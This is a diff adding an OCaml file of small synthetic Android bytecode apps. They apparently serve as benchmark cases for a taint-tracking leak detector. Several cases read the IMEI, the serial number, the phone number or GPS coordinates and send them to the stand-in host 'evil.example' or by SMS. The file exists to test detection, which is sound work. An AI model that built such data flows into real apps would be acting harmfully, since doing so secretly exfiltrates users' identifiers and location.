@@ -1,0 +1,201 @@
+(* Callback, intent, reflection and location cases. *)
+
+module B = Pift_dalvik.Bytecode
+open Dsl
+
+let app = App.make
+let intent = ("Intent", [ "extra" ])
+
+(* The framework "invokes" onClick, which leaks. *)
+let button1 =
+  app ~name:"Button1" ~category:"Callbacks" ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"Button.onClick" ~registers:5 ~ins:0
+            (imei 0
+            @ [ lit 1 "clicked=" ]
+            @ concat ~dst:2 1 0
+            @ [ lit 3 "5554"; send_sms ~dest:3 ~msg:2; B.Return_void ]);
+          meth ~name:"main" ~registers:1 ~ins:0
+            [ call0 "Button.onClick"; B.Return_void ];
+        ])
+
+let button2 =
+  app ~name:"Button2" ~category:"Callbacks" ~leaky:false (fun () ->
+      prog
+        [
+          meth ~name:"Button.onClick" ~registers:4 ~ins:0
+            (imei 0
+            @ [ lit 1 "clicked"; lit 2 "5554"; send_sms ~dest:2 ~msg:1;
+                B.Return_void ]);
+          meth ~name:"main" ~registers:1 ~ins:0
+            [ call0 "Button.onClick"; B.Return_void ];
+        ])
+
+(* Inter-component flow: the extra travels inside an Intent object. *)
+let intent_sink1 =
+  app ~name:"IntentSink1" ~category:"InterComponentCommunication"
+    ~leaky:true (fun () ->
+      prog ~classes:[ intent ]
+        [
+          meth ~name:"Receiver.onReceive" ~registers:4 ~ins:1
+            ([ B.Iget_object (0, 3, "extra") ]
+            @ [ lit 1 "http://evil.example"; http ~url:1 ~body:0;
+                B.Return_void ]);
+          meth ~name:"main" ~registers:4 ~ins:0
+            (imei 0
+            @ [ B.New_instance (1, "Intent") ]
+            @ [ B.Iput_object (0, 1, "extra") ]
+            @ [ B.Invoke (B.Static, "Receiver.onReceive", [ 1 ]);
+                B.Return_void ]);
+        ])
+
+let intent_sink2 =
+  app ~name:"IntentSink2" ~category:"InterComponentCommunication"
+    ~leaky:false (fun () ->
+      prog ~classes:[ intent ]
+        [
+          meth ~name:"Receiver.onReceive" ~registers:4 ~ins:1
+            ([ B.Iget_object (0, 3, "extra") ]
+            @ [ lit 1 "http://stats.example"; http ~url:1 ~body:0;
+                B.Return_void ]);
+          meth ~name:"main" ~registers:4 ~ins:0
+            (imei 0
+            @ [ B.New_instance (1, "Intent") ]
+            @ [ lit 2 "benign-extra"; B.Iput_object (2, 1, "extra") ]
+            @ [ B.Invoke (B.Static, "Receiver.onReceive", [ 1 ]);
+                B.Return_void ]);
+        ])
+
+(* The leaking component exists but is never started. *)
+let inactive_activity =
+  app ~name:"InactiveActivity" ~category:"AndroidSpecific" ~leaky:false
+    (fun () ->
+      prog
+        [
+          meth ~name:"Inactive.onCreate" ~registers:3 ~ins:0
+            (imei 0
+            @ [ lit 1 "http://evil.example"; http ~url:1 ~body:0;
+                B.Return_void ]);
+          meth ~name:"main" ~registers:3 ~ins:0
+            [
+              lit 0 "alive";
+              lit 1 "TAG";
+              log ~tag:1 ~msg:0;
+              B.Return_void;
+            ];
+        ])
+
+(* Reflection-style dispatch: the target method is picked by runtime
+   value; the chosen one leaks. *)
+let reflection1 =
+  app ~name:"Reflection1" ~category:"Reflection" ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"Handler.leak" ~registers:4 ~ins:0
+            (serial 0
+            @ [ lit 1 "TAG"; log ~tag:1 ~msg:0; B.Return_void ]);
+          meth ~name:"Handler.safe" ~registers:4 ~ins:0
+            [ lit 0 "safe"; lit 1 "TAG"; log ~tag:1 ~msg:0; B.Return_void ];
+          meth ~name:"main" ~registers:3 ~ins:0
+            (body
+               [
+                 I (B.Const4 (0, 1));
+                 Ifz_l (B.Eq, 0, "safe");
+                 I (call0 "Handler.leak");
+                 I B.Return_void;
+                 L "safe";
+                 I (call0 "Handler.safe");
+                 I B.Return_void;
+               ]);
+        ])
+
+(* GPS latitude through String.valueOf (itoa): needs NI >= 10. *)
+let location_leak1 =
+  app ~name:"LocationLeak1" ~category:"Callbacks" ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"Listener.onLocationChanged" ~registers:5 ~ins:0
+            (latitude 0
+            @ int_to_string ~dst:1 0
+            @ [ lit 2 "loc"; log ~tag:2 ~msg:1; B.Return_void ]);
+          meth ~name:"main" ~registers:1 ~ins:0
+            [ call0 "Listener.onLocationChanged"; B.Return_void ];
+        ])
+
+(* Both coordinates over HTTP.  Outside the subset. *)
+let location_leak2 =
+  app ~name:"LocationLeak2" ~category:"Callbacks" ~leaky:true
+    ~subset48:false (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:9 ~ins:0
+            (latitude 0
+            @ int_to_string ~dst:1 0
+            @ longitude 2
+            @ int_to_string ~dst:3 2
+            @ [ lit 4 "," ]
+            @ concat ~dst:5 1 4
+            @ concat ~dst:6 5 3
+            @ [ lit 7 "http://evil.example"; http ~url:7 ~body:6;
+                B.Return_void ]);
+        ])
+
+let location_to_sms1 =
+  app ~name:"LocationToSms1" ~category:"Callbacks" ~leaky:true
+    ~subset48:false (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:4 ~ins:0
+            (longitude 0
+            @ int_to_string ~dst:1 0
+            @ [ lit 2 "5554"; send_sms ~dest:2 ~msg:1; B.Return_void ]);
+        ])
+
+(* Three sources in one report.  Outside the subset. *)
+let multi_source1 =
+  app ~name:"MultiSource1" ~category:"AndroidSpecific" ~leaky:true
+    ~subset48:false (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:10 ~ins:0
+            (sb_new ~dst:0
+            @ imei 1
+            @ sb_append ~sb:0 1
+            @ phone_number 2
+            @ sb_append ~sb:0 2
+            @ serial 3
+            @ sb_append ~sb:0 3
+            @ sb_to_string ~dst:4 ~sb:0
+            @ [ lit 5 "http://evil.example"; http ~url:5 ~body:4;
+                B.Return_void ]);
+        ])
+
+(* The IMEI rides in the URL query string; the body is clean.  Outside
+   the subset. *)
+let http_url_leak1 =
+  app ~name:"HttpUrlLeak1" ~category:"AndroidSpecific" ~leaky:true
+    ~subset48:false (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:6 ~ins:0
+            ([ lit 0 "http://evil.example/?id=" ]
+            @ imei 1
+            @ concat ~dst:2 0 1
+            @ [ lit 3 "ping"; http ~url:2 ~body:3; B.Return_void ]);
+        ])
+
+let all : App.t list =
+  [
+    button1;
+    button2;
+    intent_sink1;
+    intent_sink2;
+    inactive_activity;
+    reflection1;
+    location_leak1;
+    location_leak2;
+    location_to_sms1;
+    multi_source1;
+    http_url_leak1;
+  ]
